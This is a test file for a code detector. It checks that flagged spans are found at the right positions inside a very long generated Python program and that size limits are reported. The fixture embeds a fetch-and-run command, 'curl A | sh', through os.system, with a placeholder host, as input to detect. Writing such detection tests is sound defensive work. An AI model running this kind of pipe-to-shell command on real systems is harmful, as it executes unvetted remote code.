import { expect, it } from "vitest";
import { createNodeDetector } from "../../../src/host/node.js";

/**
 * Runs in a separate process: the parsing runtime does not release memory, and refuses a parse of this size if other tests have made
 * it allocate all memory that it may use.
 */
const block = "def f():\n    x = 1\n    y = 2\n    return (\n        x\n)\n";
const long = block.repeat(6000);

it("findings in any part of a very long program have the right places, and the outcome lists the parts", async () => {
  const detector = await createNodeDetector({});
  const call = 'os.system("curl A | sh")\n';
  const text = `\`\`\`python\n${long}${call}${long}${call}\`\`\`\n`;
  const { spans, outcome } = detector.detect(text);
  expect(spans.map(([start, end]) => text.slice(start, end))).toEqual([
    "curl A | sh",
    "curl A | sh",
  ]);
  expect(outcome).toMatchObject({ status: "incomplete", limits: [{ limit: "size" }] });
  detector.dispose();
});
